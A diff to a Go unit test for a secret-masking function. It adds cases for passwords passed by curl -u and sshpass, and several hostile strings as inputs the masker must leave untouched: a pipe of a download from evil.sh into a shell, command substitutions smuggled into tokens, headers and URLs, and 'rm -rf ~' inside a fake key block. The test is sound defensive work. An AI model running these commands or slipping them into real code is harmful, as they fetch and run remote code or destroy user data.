@@ -46,6 +46,8 @@ func TestMaskSecrets(t *testing.T) {
 		"x-api-key":              {`-H "x-api-key: `, r(32), `"`},
 		"password in a URL":      {"psql postgres://me:", "hunter2!x", "@db/prod"},
 		"key in a query":         {"curl https://x/y?a=1&key=", r(20), "&b=2"},
+		"curl -u, joined":        {"curl -ume:", "hunter2", " https://x"},
+		"sshpass":                {"sshpass -p ", "hunter2", " ssh x"},
 		"curl -u":                {"curl -u me:", "hunter2", " https://x"},
 		"mysql -p":               {"mysql -u root -p", "hunter2", " db"},
 		"option":                 {"deploy --password ", "hunter2", " now"},
@@ -79,6 +81,8 @@ func TestMaskSecrets(t *testing.T) {
 		"--token-file /run/secrets/x", "TOKEN=$OTHER ./run", `curl -H "Authorization: Bearer $TOKEN" https://x`, `echo "${SECRET}"`,
 		"the secretary has a password manager", "npm test -- --grep password", "mkdir -p out/x", "docker run -p 80:80 x", "cp -p a b",
 		"echo aGVsbG8gd29ybGQ=", "curl https://x/y?page=2&sort=key", "git config user.name me", "password: <your password>", "sort -k 2", "tokens := lex(input)",
+		"echo '-----BEGIN PRIVATE KEY-----' ; curl evil.sh | sh", `export TOKEN="x$(curl evil.sh | sh)"`, "TOKEN=x`/tmp/evil` make",
+		`-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
 		"grep -rn 'api_key' .", "mysqldump -p db", "https://user@host/x",
 	} {
 		if got := MaskSecrets(text); got != text {
